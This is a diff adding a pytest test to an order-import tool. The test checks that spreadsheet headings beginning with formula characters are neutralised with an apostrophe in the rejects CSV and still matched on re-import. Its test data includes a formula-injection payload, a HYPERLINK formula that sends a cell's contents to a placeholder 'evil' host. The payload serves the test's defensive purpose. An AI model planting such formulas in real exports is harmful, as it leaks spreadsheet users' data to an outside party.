@@ -7,6 +7,8 @@ from pathlib import Path
 import pytest
 
 from tests.channels.test_taking_files import HEADER, row
+from zhanggui.channels import uploads
+from zhanggui.channels.reading.cells import FORMULA
 from zhanggui.ops.importing import take_files
 from zhanggui.orders.models import Order
 
@@ -45,3 +47,23 @@ def test_a_rejected_cell_comes_back_as_it_was(shop_id: int, tmp_path: Path) -> N
     assert take_files("orders", [mended]).orders_created == len(notes)
     kept = [note for (note,) in Order.objects.order_by("platform_no").values_list("buyer_note")]
     assert kept == [note if note != '="0123"' else "0123" for note in notes]
+
+
+@pytest.mark.capability("I-08")
+def test_a_heading_that_is_a_formula_is_given_back_as_text_and_known_again(shop_id: int, tmp_path: Path) -> None:
+    headings = ('=HYPERLINK("http://evil/?"&A2,"备注")', "-客户", "@谁", '="余额"')
+    quoted = ",".join('"{}"'.format(word.replace('"', '""')) for word in headings)
+    given, out = written(tmp_path, row("T1", pieces="0") + ",a,b,c,d", header=f"{HEADER},{quoted}"), tmp_path / "rejects.csv"
+    take_files("orders", [given], rejects=out)
+    first, line = csv.reader(io.StringIO(out.read_text("utf-8-sig")))
+    assert not [word for word in (*first, *line) if word.startswith(FORMULA)]
+    assert first[len(HEADER.split(",")) :][:3] == [f"'{word}" for word in headings[:3]]
+
+    def header(path: Path) -> list[str]:
+        return uploads.header_of(path.read_bytes(), path.name, kind="orders", choices={}, header_row=None, sheet=None)
+
+    # The columns are called what they were called: what was matched by hand is matched again.
+    assert header(out)[: len(first) - 2] == header(given)
+    assert header(given)[-1] == "余额"
+    out.write_text(out.read_text("utf-8-sig").replace(",TEA,0,", ",TEA,1,"), "utf-8")
+    assert take_files("orders", [out]).orders_created == 1
